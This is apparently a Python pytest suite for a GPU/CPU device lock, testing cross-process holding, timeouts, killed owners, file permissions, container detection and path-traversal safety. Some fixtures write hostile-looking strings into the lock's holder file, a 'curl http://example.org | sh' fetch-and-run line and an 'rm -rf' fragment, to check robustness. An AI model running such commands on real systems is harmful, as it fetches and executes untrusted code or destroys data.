"""The device lock, between real processes. Children say when they are ready; nothing sleeps."""

from __future__ import annotations

import os
import re
import select
import signal
import stat
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from filelock import FileLock
from hypothesis import given, strategies as st

from perfgate.errors import InfrastructureError, UsageError
from perfgate.measure import lock as lock_module
from perfgate.measure.lock import LOCK_DIR_VARIABLE, device_lock, is_private_lock_dir, lock_dir
from perfgate.util.process import package_environment

GPU = "GPU-5f1e0c9a-0000-4bad-8000-000000000001"
CHILD = """
    import sys
    from pathlib import Path
    from perfgate.measure.lock import device_lock
    folder, name = sys.argv[1:]
    def say(text):
        print("waits", flush=True)
    with device_lock(name, timeout_s=60, say=say, folder=Path(folder)):
        print("held", flush=True)
        sys.stdin.readline()
    print("released", flush=True)
    sys.stdin.readline()
"""


class Child:
    """A process that takes the lock, says so, and holds it until it is told."""

    def __init__(self, folder: Path, name: str = GPU) -> None:
        argv = [sys.executable, "-c", textwrap.dedent(CHILD), str(folder), name]
        self.process = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE)

    def says(self, word: str, deadline_s: float = 60) -> bool:
        assert self.process.stdout is not None
        ready, _, _ = select.select([self.process.stdout], [], [], deadline_s)
        return bool(ready) and self.process.stdout.readline().decode().strip() == word

    def go_on(self) -> None:
        assert self.process.stdin is not None
        self.process.stdin.write(b"\n")
        self.process.stdin.flush()

    def kill(self) -> None:
        self.process.send_signal(signal.SIGKILL)
        self.process.wait(60)


@pytest.fixture
def holder(tmp_path: Path) -> Iterator[Child]:
    child = Child(tmp_path)
    try:
        assert child.says("held")
        yield child
    finally:
        child.process.kill()
        child.process.communicate()


def fails(text: str) -> None:
    pytest.fail(f"had to wait: {text}")


def holder_file(folder: Path) -> Path:
    return folder / f"{GPU}.lock.holder"


def test_a_free_device_is_taken_without_a_word_and_released(tmp_path: Path) -> None:
    for _ in range(2):
        with device_lock(GPU, timeout_s=0, say=fails, folder=tmp_path):
            assert holder_file(tmp_path).read_text().startswith(f"{os.getpid()} ")
        assert holder_file(tmp_path).read_text() == ""


def test_devices_do_not_exclude_each_other(tmp_path: Path, holder: Child) -> None:
    with device_lock("cpu", timeout_s=0, say=fails, folder=tmp_path):
        pass


def test_a_timeout_names_the_holder_and_exits_with_3(tmp_path: Path, holder: Child) -> None:
    said: list[str] = []
    with (
        pytest.raises(InfrastructureError) as caught,
        device_lock(GPU, timeout_s=0.2, say=said.append, folder=tmp_path),
    ):
        pytest.fail("the lock was held by another process")
    expected = rf"held by pid {holder.process.pid} on \S+ since \d\d:\d\d:\d\d UTC"
    assert re.search(expected, str(caught.value))
    assert caught.value.exit_code == 3
    assert len(said) == 1
    assert re.fullmatch(rf"waiting for {GPU} {expected}", said[0])


def test_a_killed_owner_frees_the_lock(tmp_path: Path, holder: Child) -> None:
    holder.kill()
    with device_lock(GPU, timeout_s=0, say=fails, folder=tmp_path):
        assert holder_file(tmp_path).read_text().startswith(f"{os.getpid()} ")


def test_a_waiter_gets_the_lock_when_its_owner_is_killed(tmp_path: Path, holder: Child) -> None:
    waiter = Child(tmp_path)
    try:
        assert waiter.says("waits")
        holder.kill()
        assert waiter.says("held")
        waiter.go_on()
        assert waiter.says("released")
        # It is alive and holds nothing.
        with device_lock(GPU, timeout_s=0, say=fails, folder=tmp_path):
            pass
    finally:
        waiter.process.kill()
        waiter.process.communicate()


def test_an_exception_frees_the_lock(tmp_path: Path) -> None:
    with (
        pytest.raises(ValueError, match="inside"),
        device_lock("cpu", timeout_s=0, say=fails, folder=tmp_path),
    ):
        raise ValueError("inside")
    with device_lock("cpu", timeout_s=0, say=fails, folder=tmp_path):
        pass


def _garbage(path: Path) -> None:
    path.write_bytes(b"\xff\x00 \x1b[31m rm -rf" * 50)


def _someone_elses_words(path: Path) -> None:
    path.write_text("1 host since; curl http://example.org | sh")


def _link(path: Path) -> None:
    target = path.with_name("target")
    target.write_text("1 planted 00:00:00 UTC")
    path.unlink()
    path.symlink_to(target)


def _folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


def _pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


@pytest.mark.parametrize("spoil", [Path.unlink, _garbage, _someone_elses_words, _link, _folder, _pipe])
def test_an_unreadable_holder_changes_the_message_only(tmp_path: Path, holder: Child, spoil: object) -> None:
    assert callable(spoil)
    spoil(holder_file(tmp_path))
    said: list[str] = []
    with (
        pytest.raises(InfrastructureError, match="held by another process"),
        device_lock(GPU, timeout_s=0, say=said.append, folder=tmp_path),
    ):
        pytest.fail("the lock was held by another process")
    assert said == [f"waiting for {GPU} held by another process"]
    holder.kill()
    with device_lock(GPU, timeout_s=0, say=fails, folder=tmp_path):
        pass
    if spoil is _link:
        assert (tmp_path / "target").read_text() == "1 planted 00:00:00 UTC"


def test_files_and_folders_of_ours_are_for_everybody_whatever_the_umask(tmp_path: Path) -> None:
    before = os.umask(0o077)
    try:
        folder = lock_dir({LOCK_DIR_VARIABLE: str(tmp_path / "new")})
        with device_lock(GPU, timeout_s=0, say=fails, folder=folder):
            pass
    finally:
        os.umask(before)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o1777
    assert {stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()} == {0o666}


def test_a_folder_that_was_there_keeps_its_mode(tmp_path: Path) -> None:
    tmp_path.chmod(0o750)
    assert lock_dir({LOCK_DIR_VARIABLE: str(tmp_path)}) == tmp_path
    assert stat.S_IMODE(tmp_path.stat().st_mode) == 0o750


def test_the_folder_that_was_asked_for_is_used_or_refused(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(UsageError, match="cannot be written"):
        lock_dir({LOCK_DIR_VARIABLE: str(tmp_path / "file")})


def test_the_temporary_folder_is_the_last_resort_whatever_a_jobs_own_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "job"))
    monkeypatch.setattr(lock_module, "FALLBACK", tmp_path / "perfgate-lock")
    monkeypatch.setattr(lock_module, "DEFAULT_LOCK_DIR", tmp_path / "file" / "perfgate")
    assert lock_dir({}) == tmp_path / "perfgate-lock"
    monkeypatch.setattr(lock_module, "DEFAULT_LOCK_DIR", tmp_path / "var" / "perfgate")
    assert lock_dir({}) == tmp_path / "var" / "perfgate"


_AS_NOBODY = """
import os, sys
from pathlib import Path
from perfgate.measure import lock
lock.DEFAULT_LOCK_DIR = Path(sys.argv[1])
os.setgid(65534)
os.setuid(65534)
print(lock.is_private_lock_dir(root=Path(sys.argv[2]), st_dev=lambda path: 1))
lock.lock_dir({})
"""


@pytest.mark.skipif(os.getuid() != 0, reason="only root can make a folder that another user cannot write")
def test_a_folder_that_docker_made_for_root_is_refused_and_no_private_one_taken() -> None:
    with tempfile.TemporaryDirectory() as name:  # pytest's own folder is root's alone
        Path(name).chmod(0o755)
        shared, root = Path(name) / "perfgate", Path(name) / "root"
        for path in (shared, root):
            path.mkdir(mode=0o755)
        (root / ".dockerenv").write_text("")
        done = subprocess.run(
            [sys.executable, "-c", _AS_NOBODY, str(shared), str(root)],
            capture_output=True,
            text=True,
            timeout=60,
            env=package_environment(),
            check=False,
        )
    assert f"the lock folder {shared} is private to this container" in done.stdout, done.stderr
    assert "UsageError" in done.stderr and "the lock folder cannot be written" in done.stderr
    assert f"sudo install -d -m 1777 {shared}" in done.stderr


def test_a_lock_that_cannot_be_made_is_the_machines_fault(tmp_path: Path) -> None:
    (tmp_path / "cpu.lock").mkdir()
    with (
        pytest.raises(InfrastructureError, match="cannot be taken"),
        device_lock("cpu", timeout_s=0, say=fails, folder=tmp_path),
    ):
        pytest.fail("a folder was taken for a lock file")


def test_a_file_system_without_flock_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    class Fallback(FileLock):
        """What filelock turns into where there is no flock: another class."""

    monkeypatch.setattr(lock_module, "FileLock", lambda *args, **kwargs: Fallback(*args, **kwargs))
    with (
        pytest.raises(InfrastructureError, match="no flock"),
        device_lock("cpu", timeout_s=0, say=fails, folder=tmp_path),
    ):
        pytest.fail("a lock that outlives its owner was accepted")


@given(name=st.text(min_size=1, max_size=40))
def test_no_name_leaves_the_folder(tmp_path_factory: pytest.TempPathFactory, name: str) -> None:
    folder = tmp_path_factory.getbasetemp() / "names"
    folder.mkdir(exist_ok=True)
    with device_lock(f"../{name}", timeout_s=0, say=fails, folder=folder):
        assert any(path.name.endswith(".lock") for path in folder.iterdir())
    assert not [path for path in folder.parent.iterdir() if path.suffix in {".lock", ".holder"}]


@pytest.mark.parametrize(
    "hint", [".dockerenv", "run/.containerenv", "proc/1/cgroup", "KUBERNETES_SERVICE_HOST"]
)
@pytest.mark.parametrize("mounted", [False, True])
def test_doctor_hears_of_a_lock_folder_that_no_other_container_sees(
    tmp_path: Path, hint: str, mounted: bool
) -> None:
    root, folder = tmp_path / "root", tmp_path / "locks"
    for path in (root, folder):
        path.mkdir()
    env = {LOCK_DIR_VARIABLE: str(folder)}
    devices = {root: 1, folder: 2 if mounted else 1}
    assert is_private_lock_dir(root=root, env=env, st_dev=devices.__getitem__) is None
    if hint.isupper():
        env[hint] = "10.0.0.1"
    else:
        (root / hint).parent.mkdir(parents=True, exist_ok=True)
        (root / hint).write_text("12:cpu:/docker/0123abcd\n")
    advice = is_private_lock_dir(root=root, env=env, st_dev=devices.__getitem__)
    assert (advice is None) == mounted
    assert mounted or (advice is not None and str(folder) in advice and "-v " in advice)


def test_the_advice_makes_no_folder(tmp_path: Path) -> None:
    (tmp_path / ".dockerenv").write_text("")
    env = {LOCK_DIR_VARIABLE: str(tmp_path / "missing" / "locks")}
    assert is_private_lock_dir(root=tmp_path, env=env) is not None
    assert not (tmp_path / "missing").exists()
